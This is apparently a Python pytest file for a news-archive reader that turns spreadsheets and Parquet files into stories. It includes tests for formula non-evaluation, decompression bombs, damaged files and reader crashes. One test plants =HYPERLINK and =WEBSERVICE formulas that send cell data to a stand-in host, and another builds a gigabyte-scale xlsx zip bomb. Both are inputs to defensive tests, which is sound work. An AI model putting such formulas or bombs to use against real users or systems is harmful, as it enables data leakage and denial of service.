"""Spreadsheets and Parquet: sheets, formulas, bombs, damage, and libraries that are not there."""

import datetime as dt
import io
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pyarrow
import pytest
from pyarrow import parquet

from searcher.archives import Reject, Skipped, original, read
from searcher.archives.records import binary_tables
from searcher.story import Story

TEXT = "Ships returned to the harbour of Northport on Monday, after four days of storm."
ROW = ("Harbour reopens", TEXT, dt.datetime(2020, 1, 6, 10, 30), "Northport Herald")
HEAD = ("Title", "Full text", "Date", "Publication")


def workbook(
    path: Path, *rows: tuple[object, ...], more: tuple[tuple[object, ...], ...] = ()
) -> None:
    """Write a workbook of one sheet, and of a second one if there are rows for it."""
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    if more:
        sheet = book.create_sheet("Second")
        for row in more:
            sheet.append(row)
    book.save(path)


def table(path: Path, count: int = 3, **options: int) -> None:
    """Write a Parquet file of so many stories."""
    columns = {
        "title": [f"Harbour {number}" for number in range(count)],
        "text": [f"{TEXT} {number}" for number in range(count)],
        "date": [dt.datetime(2020, 1, 6, tzinfo=dt.UTC)] * count,
        "source": [{"name": "AFP"}] * count,
    }
    parquet.write_table(pyarrow.table(columns), path, **options)


def reasons(path: Path) -> list[str]:
    """The headline of each story of a file, and why the rest is none."""
    return [getattr(one, "reason", "") or getattr(one, "headline", "") for one in read(path)]


def test_each_sheet_is_a_table_of_its_own(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    other = ("Überschrift", "Text", "Datum"), ("Fähre fährt", "Sie fährt wieder.", 43837)
    workbook(path, ("Export of 3 May",), (), HEAD, ROW, more=other)
    first, second = (one for one in read(path) if isinstance(one, Story))
    assert (first.headline, first.body, first.source) == (
        "Harbour reopens",
        TEXT,
        "Northport Herald",
    )
    assert first.date == dt.datetime(2020, 1, 6, 10, 30, tzinfo=dt.UTC)
    assert (second.headline, f"{second.date:%Y-%m-%d}") == ("Fähre fährt", "2020-01-07")
    assert b"harbour of Northport" in original(first.origin)
    assert "Fähre".encode() in original(second.origin)


def test_a_workbook_within_a_zip_is_one_file(tmp_path: Path) -> None:
    workbook(tmp_path / "a.xlsx", HEAD, ROW)
    with zipfile.ZipFile(tmp_path / "all.zip", "w") as archive:
        archive.write(tmp_path / "a.xlsx", "in/a.xlsx")
    (story,) = read(tmp_path / "all.zip")
    assert isinstance(story, Story)
    assert story.origin.endswith("all.zip!/in/a.xlsx#sheet1row2")
    assert b"Herald" in original(story.origin)


def test_formulas_are_not_computed(tmp_path: Path) -> None:
    formula = (
        '=HYPERLINK("http://x.example/" & A2)',
        TEXT,
        ROW[2],
        '=WEBSERVICE("http://x.example")',
    )
    workbook(tmp_path / "a.xlsx", HEAD, formula)
    (story,) = read(tmp_path / "a.xlsx")
    assert isinstance(story, Story)
    assert story.source == ""
    assert "x.example" not in story.headline


def test_a_spreadsheet_of_notes_is_said_to_be_a_table(tmp_path: Path) -> None:
    workbook(tmp_path / "n.xlsx", ("who", "called"), ("Ann Reed", "yes"), ("Tom Hale", "no"))
    (skipped,) = read(tmp_path / "n.xlsx")
    assert isinstance(skipped, Skipped)
    assert (skipped.reason, "2 rows" in skipped.message) == ("table", True)


@pytest.mark.slow
def test_a_workbook_that_unpacks_to_gigabytes_is_a_reject(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    workbook(path, HEAD, ROW)
    row = b'<row r="%d"><c t="inlineStr"><is><t>' + b"x" * 30_000 + b"</t></is></c></row>"
    packed = io.BytesIO()
    with (
        zipfile.ZipFile(path) as old,
        zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new,
    ):
        for name in old.namelist():
            if name != "xl/worksheets/sheet1.xml":
                new.writestr(name, old.read(name))
                continue
            begin = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            with new.open(name, "w", force_zip64=True) as sheet:
                sheet.write(begin + b"<sheetData>")
                for number in range(1, 36_000):
                    sheet.write(row % number)
                sheet.write(b"</sheetData></worksheet>")
    path.write_bytes(packed.getvalue())
    assert reasons(path) == ["bomb"]


def test_parquet_in_several_row_groups(tmp_path: Path) -> None:
    table(tmp_path / "a.parquet", 500, row_group_size=100)
    stories = [one for one in read(tmp_path / "a.parquet") if isinstance(one, Story)]
    assert [story.headline for story in stories] == [f"Harbour {number}" for number in range(500)]
    assert {story.source for story in stories} == {"AFP"}
    assert b"Harbour 321" in original(stories[321].origin)


def test_damaged_parquet_keeps_what_precedes_the_damage(tmp_path: Path) -> None:
    path = tmp_path / "a.parquet"
    table(path, 20_000, row_group_size=2_000)
    data = bytearray(path.read_bytes())
    place = len(data) * 3 // 4
    data[place : place + 2_000] = b"\xff" * 2_000
    path.write_bytes(data)
    *found, last = read(path)
    assert len([one for one in found if isinstance(one, Story)]) > 5_000
    assert isinstance(last, Reject)
    path.write_bytes(b"PAR1  PAR1")
    assert reasons(path) == ["damaged"]


def test_the_extra_that_would_read_a_file_is_named(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A Python without site packages has neither pyarrow nor calamine."""
    table(tmp_path / "a.parquet")
    workbook(tmp_path / "b.xlsx", HEAD, ROW)
    bare = tmp_path / "python"
    bare.write_text(f'#!/bin/sh\nexec {sys.executable} -S "$@"\n')
    bare.chmod(0o755)
    monkeypatch.setattr(sys, "executable", str(bare))
    for name in ("a.parquet", "b.xlsx"):
        (reject,) = read(tmp_path / name)
        assert isinstance(reject, Reject)
        assert reject.reason == "needs-extra"
        assert "newswire-search[tables]" in reject.message


def test_a_crash_of_the_reader_is_a_reject(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    child = tmp_path / "child.py"
    child.write_text(
        'import os\nprint(\'{"table": "", "columns": ["title", "text", "date"], "rows": 2}\')\n'
        'print(\'["Oil up", "Oil rose.", "2020-01-06"]\', flush=True)\nos.abort()\n'
    )
    table(tmp_path / "a.parquet")
    monkeypatch.setattr(binary_tables, "_CHILD", child)
    assert reasons(tmp_path / "a.parquet") == ["Oil up", "bomb"]


def test_a_reader_that_hangs_is_ended(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    child = tmp_path / "child.py"
    child.write_text("import time\ntime.sleep(600)\n")
    table(tmp_path / "a.parquet")
    monkeypatch.setattr(binary_tables, "_CHILD", child)
    monkeypatch.setattr(binary_tables, "PATIENCE", 0.5)
    assert reasons(tmp_path / "a.parquet") == ["bomb"]
    left = subprocess.run(["ps", "-eo", "args"], capture_output=True, check=True).stdout
    assert str(child).encode() not in left
